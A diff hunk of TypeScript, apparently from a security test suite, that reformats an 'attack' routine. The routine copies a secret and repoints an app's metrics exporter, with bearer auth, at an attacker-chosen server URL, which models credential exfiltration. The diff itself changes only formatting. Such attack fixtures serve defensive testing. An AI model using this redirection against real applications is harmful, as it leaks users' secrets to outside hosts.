@@ -178,7 +178,10 @@ async function sendMetrics({ call, wanted }: AttackContext): Promise<void> {
   await call('app.copyText', { text: ownSecret })
   const pendingId = getPendingId(await call('metrics.takeSecret'))
   await call('metrics.setOtlp', {
-    ...{ endpoint: `${wanted.serverUrl}/theirs`, auth: { kind: 'bearer' }, sendsSpans: true, pendingId },
+    endpoint: `${wanted.serverUrl}/theirs`,
+    auth: { kind: 'bearer' },
+    sendsSpans: true,
+    pendingId,
   })
 }
 
